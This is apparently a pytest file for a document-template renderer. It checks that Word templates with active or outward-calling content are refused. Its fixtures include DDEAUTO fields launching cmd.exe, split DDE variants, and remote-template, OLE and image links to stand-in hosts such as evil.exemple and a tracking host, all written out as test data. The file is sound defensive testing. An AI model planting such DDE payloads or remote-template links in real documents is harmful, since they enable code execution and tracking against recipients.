"""What would run or call out is refused by name, however it is hidden; what people do every day is not."""

import io
import zipfile

import pytest

from pipeline.render import Template, TemplateError
from tests.render.docs import blank

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def field(*pieces: str) -> str:
    """A field whose code is cut into pieces, as Word cuts it."""
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{codes}{end}</w:p>"


def made(body: str = "", *links: tuple[str, str], part: str = "word/document.xml") -> bytes:
    """A template with that in its body, and relationships (kind, target) to the outside of one part."""
    first = io.BytesIO()
    blank().save(first)
    out, target = io.BytesIO(), part.replace("word/", "word/_rels/") + ".rels"
    with zipfile.ZipFile(first) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "word/document.xml":
                data = data.replace(b"<w:body>", b"<w:body>" + (body or "<w:p/>").encode())
            if name != target:
                new.writestr(name, data)
        said = "".join(
            f'<Relationship Id="x{rank}" Type="{REL}/{kind}" Target="{to}" TargetMode="External"/>'
            for rank, (kind, to) in enumerate(links)
        )
        space = "http://schemas.openxmlformats.org/package/2006/relationships"
        kept = (
            old.read(target).decode()
            if target in old.namelist()
            else f'<Relationships xmlns="{space}"></Relationships>'
        )
        new.writestr(target, kept.replace("</Relationships>", said + "</Relationships>"))
    return out.getvalue()


@pytest.mark.parametrize(
    "body",
    [
        field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
        field(" DD", "E", "AUTO cmd "),
        field(" dde cmd "),
        field(' INCLUDEPICTURE "http://traceur.exemple/{{ x }}.png" \\d '),
        field(' INCLUDETEXT "\\\\\\\\serveur\\\\partage\\\\x.docx" '),
        field(" LINK Excel.Sheet x "),
        field(" MACROBUTTON X y "),
        field("{{ 'DDE' }} cmd"),
        '<w:p><w:fldSimple w:instr=" DATABASE \\d x "><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>',
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        'src="http://traceur.exemple/p.png"/></v:shape></w:pict></w:r></w:p>',
    ],
)
def test_fields_that_run_or_fetch_are_refused_by_name(body: str) -> None:
    with pytest.raises(TemplateError) as told:
        Template(made(body), name="m.docx", fields={"x"})
    assert told.value.code == "contenu-actif"
    assert "«" in told.value.message


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://traceur.exemple/p.png"),
        ("oleObject", "\\\\evil\\share\\x.doc"),
        ("aFChunk", "chunk.html"),
        ("subDocument", "autre.docx"),
        ("attachedTemplate", "http://evil.exemple/m.dotm"),
        ("attachedTemplate", "\\\\evil\\m.dotm"),
        ("vbaProject", "vbaProject.bin"),
        ("control", "activeX1.xml"),
        ("frame", "http://evil.exemple/"),
    ],
)
def test_what_brings_in_something_else_is_refused_by_name(kind: str, target: str) -> None:
    part = "word/settings.xml" if kind == "attachedTemplate" else "word/document.xml"
    with pytest.raises(TemplateError, match="appellerait ailleurs") as told:
        Template(made("", (kind, target), part=part), name="m.docx")
    assert target.replace("&", "&amp;")[:20] in told.value.message


@pytest.mark.parametrize(
    ("body", "links"),
    [
        (field(" PAGE "), ()),
        (field(" NUMPAGES \\* MERGEFORMAT "), ()),
        (field(' HYPERLINK "https://exemple.fr" '), ()),
        (field(" REF _Ref123 \\h "), ()),
        ("", (("hyperlink", "https://exemple.fr"),)),
        ("", (("hyperlink", "mailto:bilans@cdg.exemple"),)),
        ("<w:p><w:r><w:t>Le mot DDE dans une phrase</w:t></w:r></w:p>", ()),
    ],
)
def test_what_people_do_every_day_is_not(body: str, links: tuple[tuple[str, str], ...]) -> None:
    Template(made(body, *links), name="m.docx")


def test_the_authors_own_template_on_a_disk_is_dropped() -> None:
    local = "file:///C:\\Users\\a\\Normal.dotm"
    data = Template(made("", ("attachedTemplate", local), part="word/settings.xml"), name="m.docx").render({})
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not any(b"Normal.dotm" in package.read(name) for name in package.namelist())
